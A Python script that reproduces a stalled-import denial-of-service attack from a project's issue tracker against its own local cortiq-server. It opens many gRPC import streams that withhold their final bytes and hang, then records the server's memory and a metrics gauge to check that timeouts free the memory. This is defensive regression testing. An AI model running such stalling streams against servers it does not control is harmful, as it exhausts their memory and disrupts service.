#!/usr/bin/python3
"""The stalled-import attack of issue 17, against a running cortiq-server.

Makes one kept session of about --session-mb on the server, exports it,
releases it, then opens --streams ImportSession streams that each send all of
that stream but its last 40 bytes and stall. Prints the server's resident
memory (VmRSS of --pid) before, while they stall, and after the server ended
them (--import-idle-timeout) or refused them, with their status codes and the
import gauge.

Needs Debian's grpcio (/usr/bin/python3) and the generated stubs
(build/proto/python, target cortiq_proto_py).

Example:
  build/server/cortiq-server --listen 127.0.0.1:50077 --metrics-listen 127.0.0.1:9477 \\
      --max-concurrent-imports 200 --import-idle-timeout 5 &
  /usr/bin/python3 tools/import_attack/import_attack.py --addr 127.0.0.1:50077 \\
      --metrics 127.0.0.1:9477 --pid $! --streams 100
"""
import argparse
import collections
import re
import sys
import threading
import time
import urllib.request

WITHHELD = 40
CHUNK = 1 << 20


def rss_mb(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024.0
    return 0.0


def gauge(metrics, name):
    text = urllib.request.urlopen(f"http://{metrics}/metrics", timeout=5).read().decode()
    m = re.search(rf"^{name} (\S+)$", text, re.M)
    return float(m.group(1)) if m else float("nan")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--addr", required=True)
    ap.add_argument("--metrics", required=True, help="HOST:PORT of /metrics")
    ap.add_argument("--pid", type=int, required=True, help="the server's pid (for VmRSS)")
    ap.add_argument("--streams", type=int, default=100)
    ap.add_argument("--session-mb", type=float, default=6.0)
    ap.add_argument("--proto-py", default="build/proto/python")
    args = ap.parse_args()
    sys.path.insert(0, args.proto_py)
    import grpc
    from cortiq.v1 import inference_pb2 as pb2
    from cortiq.v1 import inference_pb2_grpc as pb2_grpc

    channel = grpc.insecure_channel(args.addr, options=[
        ("grpc.max_receive_message_length", 64 << 20)])
    stub = pb2_grpc.InferenceStub(channel)

    # A kept session grown until its stream is about --session-mb.
    prompt_chars = 2000
    while True:
        req = pb2.GenerateRequest(prompt="a" * prompt_chars + " Call me Ishmael.", max_tokens=8,
                                  ignore_eos=True, keep_session=True)
        sid = ""
        for r in stub.Generate(req):
            if r.HasField("summary"):
                sid = r.summary.session_id
        wire = b"".join(c.data for c in stub.ExportSession(pb2.ExportSessionRequest(session_id=sid)))
        stub.ReleaseSession(pb2.ReleaseSessionRequest(session_id=sid))
        if len(wire) >= args.session_mb * 1e6 or prompt_chars > 64000:
            break
        prompt_chars = int(prompt_chars * args.session_mb * 1e6 / len(wire) * 1.05) + 1
    print(f"session stream: {len(wire) / 1e6:.2f} MB ({prompt_chars} prompt chars)")

    time.sleep(0.5)
    before = rss_mb(args.pid)
    print(f"RSS before: {before:.1f} MB")

    codes = collections.Counter()
    lock = threading.Lock()

    def stalled():
        def chunks():
            body = wire[:-WITHHELD]
            for off in range(0, len(body), CHUNK):
                yield pb2.WireChunk(data=body[off:off + CHUNK])
            threading.Event().wait()  # stall: never half-close

        try:
            stub.ImportSession(chunks())
            code = "OK"
        except grpc.RpcError as e:
            code = e.code().name
        with lock:
            codes[code] += 1

    threads = [threading.Thread(target=stalled, daemon=True) for _ in range(args.streams)]
    for t in threads:
        t.start()
    # While they stall: the peak of RSS and of the gauge until the first ends.
    peak_rss = peak_gauge = 0.0
    t0 = time.time()
    while time.time() - t0 < 120:
        peak_rss = max(peak_rss, rss_mb(args.pid))
        peak_gauge = max(peak_gauge, gauge(args.metrics, "cortiq_import_bytes_in_flight"))
        with lock:
            done = sum(codes.values())
        if done == args.streams:
            break
        time.sleep(0.1)
    print(f"RSS during (peak): {peak_rss:.1f} MB; cortiq_import_bytes_in_flight peak: "
          f"{peak_gauge / 1e6:.1f} MB")
    for t in threads:
        t.join(timeout=60)
    print(f"RSS with the attacker still connected: {rss_mb(args.pid):.1f} MB")
    # gRPC keeps the connection's transport buffers until it closes.
    channel.close()
    # The server's reaper trims the allocator on each tick (<= 1 s) for 5 s
    # after the last import that ended short.
    waited = 0.0
    for at in (1.0, 3.0, 6.0):
        time.sleep(at - waited)
        waited = at
        after = rss_mb(args.pid)
        print(f"RSS {at:.0f} s after: {after:.1f} MB ({(after - before) / before * 100:+.1f} % of "
              f"before); gauge {gauge(args.metrics, 'cortiq_import_bytes_in_flight'):.0f}")
    print("streams by status:", dict(codes))


if __name__ == "__main__":
    main()
